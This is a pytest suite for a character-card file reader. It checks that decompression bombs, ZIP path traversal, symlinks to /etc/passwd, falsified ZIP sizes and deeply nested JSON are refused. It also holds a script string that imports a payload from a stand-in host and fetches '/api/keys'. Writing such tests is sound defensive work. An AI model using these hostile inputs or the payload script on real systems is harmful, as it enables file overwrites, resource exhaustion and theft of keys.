"""Hostile files: size limits, decompression bombs, archive traversal; always one CardError."""

from __future__ import annotations

import io
import json
import struct
import time
import zipfile
import zlib
from pathlib import Path

import pytest

from tavo_tui.cards import CardError, Limits, read_card, read_card_bytes, write_card
from tavo_tui.cards.png import PNG_MAGIC, make_chunk
from tests.cards.helpers import b64json, itxt, png_with, text, v2, v3


def err_of(blob: bytes, tmp_path: Path, name: str = "evil.png", limits: Limits | None = None) -> str:
    p = tmp_path / name
    p.write_bytes(blob)
    with pytest.raises(CardError) as e:
        read_card(p, limits=limits or Limits())
    assert name in str(e.value)
    return str(e.value)


def test_file_size_limit(tmp_path: Path) -> None:
    blob = png_with(text("chara", b64json(v2())))
    assert "limit" in err_of(blob, tmp_path, limits=Limits(max_file=len(blob) - 1))


def test_text_chunk_size_limit(tmp_path: Path) -> None:
    blob = png_with(text("chara", b64json(v2(description="x" * 5000))))
    assert "exceeds the limit" in err_of(blob, tmp_path, limits=Limits(max_text_chunk=1000))


def test_ztxt_bomb_refused_quickly(tmp_path: Path) -> None:
    bomb = zlib.compress(b"A" * (64 * 1024 * 1024), 9)  # ~64 KB that would inflate to 64 MB
    blob = png_with((b"zTXt", b"chara\0\0" + bomb))
    start = time.perf_counter()
    assert "inflates beyond" in err_of(blob, tmp_path)
    assert time.perf_counter() - start < 2


def test_itxt_bomb_refused(tmp_path: Path) -> None:
    blob = png_with(itxt("ccv3", b"B" * (2 * 1024 * 1024), compressed=True))
    assert "inflates beyond" in err_of(blob, tmp_path, limits=Limits(max_inflated=1024 * 1024))


def test_impossible_chunk_length_and_truncation(tmp_path: Path) -> None:
    huge = PNG_MAGIC + struct.pack(">I4s", 0xFFFFFFF0, b"tEXt")
    assert "impossible length" in err_of(huge, tmp_path)
    whole = png_with(text("chara", b64json(v2())))
    assert "truncated inside a 'IDAT' chunk" in err_of(whole[: len(whole) // 2], tmp_path)
    cut = PNG_MAGIC + make_chunk(b"IHDR", b"\0" * 13)[:10]
    assert "truncated" in err_of(cut, tmp_path)


def test_damage_after_card_chunk_is_a_warning() -> None:
    whole = png_with(text("chara", b64json(v2(name="Early"))))
    idat = whole.index(b"IEND") - 4
    loaded = read_card_bytes(whole[:idat] + struct.pack(">I", 999) + b"IDAT" + b"xx")
    assert loaded.card.name == "Early" and any("truncated" in w for w in loaded.warnings)


def test_too_many_chunks(tmp_path: Path) -> None:
    blob = png_with(*[(b"abCd", b"")] * 50, text("chara", b64json(v2())))
    assert "chunks" in err_of(blob, tmp_path, limits=Limits(max_chunks=20))


def zip_bytes(entries: list[tuple[zipfile.ZipInfo | str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, data in entries:
            zf.writestr(info, data)
    return buf.getvalue()


CARD = json.dumps(v3(name="Z")).encode()


@pytest.mark.parametrize("name", ["../evil.txt", "assets/../../evil", "/etc/passwd", "C:/x", "a\\..\\b"])
def test_zip_paths_that_escape_are_refused(tmp_path: Path, name: str) -> None:
    msg = err_of(zip_bytes([("card.json", CARD), (name, b"x")]), tmp_path, "evil.charx")
    assert "unsafe path" in msg or "climbs out" in msg


def test_zip_symlink_refused(tmp_path: Path) -> None:
    info = zipfile.ZipInfo("assets/link")
    info.external_attr = (0o120777 << 16)
    msg = err_of(zip_bytes([("card.json", CARD), (info, b"/etc/passwd")]), tmp_path, "l.charx")
    assert "symbolic link" in msg


def test_zip_bomb_refused_before_inflating(tmp_path: Path) -> None:
    start = time.perf_counter()
    msg = err_of(zip_bytes([("card.json", CARD), ("assets/zero.bin", b"\0" * (40 * 1024 * 1024))]),
                 tmp_path, "bomb.charx")
    assert "too large" in msg or "ratio" in msg
    assert time.perf_counter() - start < 5
    ratio = zip_bytes([("card.json", CARD), ("assets/zero.bin", b"\0" * (2 * 1024 * 1024))])
    assert "ratio" in err_of(ratio, tmp_path, "ratio.charx")


def test_zip_lying_about_size_refused(tmp_path: Path) -> None:
    blob = bytearray(zip_bytes([("card.json", CARD), ("assets/a.bin", b"abc" * 1000)]))
    # Shrink the declared uncompressed size in the central directory (offset 24 of each record).
    cd = blob.rindex(b"PK\x01\x02")
    blob[cd + 24 : cd + 28] = struct.pack("<I", 10)
    lh = blob.index(b"PK\x03\x04", 1)
    blob[lh + 22 : lh + 26] = struct.pack("<I", 10)
    msg = err_of(bytes(blob), tmp_path, "liar.charx")
    assert "larger than declared" in msg or "corrupt" in msg


def test_zip_entry_count_limit(tmp_path: Path) -> None:
    blob = zip_bytes([("card.json", CARD)] + [(f"assets/{i}", b"x") for i in range(30)])
    assert "entries" in err_of(blob, tmp_path, "many.charx", limits=Limits(max_zip_entries=10))


def test_corrupt_zip_and_missing_card_json(tmp_path: Path) -> None:
    assert "ZIP" in err_of(b"PK\x03\x04" + b"\0" * 100, tmp_path, "c.charx")
    assert "no card.json" in err_of(zip_bytes([("readme.txt", b"hi")]), tmp_path, "n.charx")


def test_unrecognised_and_empty_files(tmp_path: Path) -> None:
    assert "unrecognised" in err_of(b"GIF89a....", tmp_path, "x.gif")
    assert "unrecognised" in err_of(b"", tmp_path, "empty.png")


def test_missing_file_is_a_card_error(tmp_path: Path) -> None:
    with pytest.raises(CardError) as e:
        read_card(tmp_path / "nope.png")
    assert "nope.png" in str(e.value) and "cannot read" in str(e.value)


def test_deeply_nested_json_is_a_card_error(tmp_path: Path) -> None:
    assert "nested too deeply" in err_of(b"[" * 100_000 + b"]" * 100_000, tmp_path, "deep.json")


def test_scripts_are_kept_as_inert_text() -> None:
    js = "import('https://example.invalid/payload.js'); fetch('/api/keys')"
    obj = v3(extensions={"tavern_helper": {"scripts": [{"content": js}]}}, creator_notes="<script>x()</script>")
    loaded = read_card_bytes(json.dumps(obj).encode())
    assert loaded.card.extensions["tavern_helper"]["scripts"][0]["content"] == js
    assert loaded.card.creator_notes == "<script>x()</script>"


def test_huge_unrelated_text_chunk_is_skipped_not_refused(tmp_path: Path) -> None:
    risu = text("risuai", b"A" * 3_000_000)
    blob = png_with(risu, text("chara", b64json(v2(name="Risu"))))
    limits = Limits(max_text_chunk=1_000_000)
    p = tmp_path / "risu.png"
    p.write_bytes(blob)
    assert read_card(p, limits=limits).card.name == "Risu"
    assert read_card(p, limits=limits, with_image=False).card.name == "Risu"
    out = tmp_path / "risu2.png"
    write_card(read_card(p, limits=limits), out, limits=limits)
    assert out.read_bytes().count(b"A" * 3_000_000) == 1  # the foreign chunk is carried along


# ---- memory bounded by the input's size (issue 13) ----------------------------------------------------------
def _peak_while(fn: object) -> int:
    import tracemalloc

    tracemalloc.start()
    try:
        fn()  # type: ignore[operator]
    except CardError:
        pass
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return peak


def test_a_small_ztxt_cannot_inflate_to_megabytes(tmp_path: Path) -> None:
    # ~16 KB of zTXt once inflated to 16 MB (within the old absolute cap) and grew RSS by ~125 MB.
    bomb = zlib.compress(b64json(v2(description="A" * 12_000_000)), 9)
    assert len(bomb) < 64 * 1024
    blob = png_with((b"zTXt", b"chara\0\0" + bomb))
    assert "inflates beyond" in err_of(blob, tmp_path)
    assert _peak_while(lambda: read_card_bytes(blob)) < 8 * 1024 * 1024


def test_many_small_zip_entries_cannot_inflate_past_their_ratio(tmp_path: Path) -> None:
    # 127 entries of 1 MiB of zeros (under the old 1 MiB ratio threshold each) cost ~130 MB from a ~140 KB file.
    members = [("card.json", CARD), *((f"assets/z{i}.bin", b"\0" * (1024 * 1024)) for i in range(127))]
    blob = zip_bytes(members)
    assert len(blob) < 400 * 1024
    assert "ratio" in err_of(blob, tmp_path, "many.charx")
    assert _peak_while(lambda: read_card_bytes(blob)) < 8 * 1024 * 1024


def test_ordinary_compressed_text_still_reads() -> None:
    # Real zTXt cards hold base64 or JSON: far under the ratio.
    import random

    rng = random.Random(7)
    words = ["the", "lantern", "harbour", "whispered", "Maren", "salt", "tide", "ledger", "quietly", "north"]
    payload = b64json(v2(name="Zed", description=" ".join(rng.choice(words) for _ in range(200_000))))
    blob = png_with((b"zTXt", b"chara\0\0" + zlib.compress(payload, 9)))
    assert read_card_bytes(blob).card.name == "Zed"


def _big_card(tmp_path: Path) -> Path:
    # 7.2 MB of JSON: its PNG chunk (V2 keeps V1 fields at the top, so the text twice, then base64) is 19 MB.
    path = tmp_path / "big.json"
    path.write_text(json.dumps(v3(name="Big", description="é" * 3_600_000), ensure_ascii=False), "utf-8")
    return path


def test_the_writer_refuses_a_png_its_reader_would_refuse(tmp_path: Path) -> None:
    loaded = read_card(_big_card(tmp_path))
    target = tmp_path / "big.png"
    with pytest.raises(CardError) as e:
        write_card(loaded, target)
    assert "would be refused when read" in e.value.problem and "exceeds the limit" in e.value.problem
    assert ".json" in e.value.problem
    assert not target.exists() and not list(tmp_path.glob(".tmp-*"))


def test_a_very_compressible_card_is_stored_in_charx_and_reads_back(tmp_path: Path) -> None:
    loaded = read_card(_big_card(tmp_path))
    target = tmp_path / "big.charx"
    write_card(loaded, target)
    assert read_card(target).card.description == "é" * 3_600_000
    with zipfile.ZipFile(target) as zf:
        assert zf.getinfo("card.json").compress_type == zipfile.ZIP_STORED
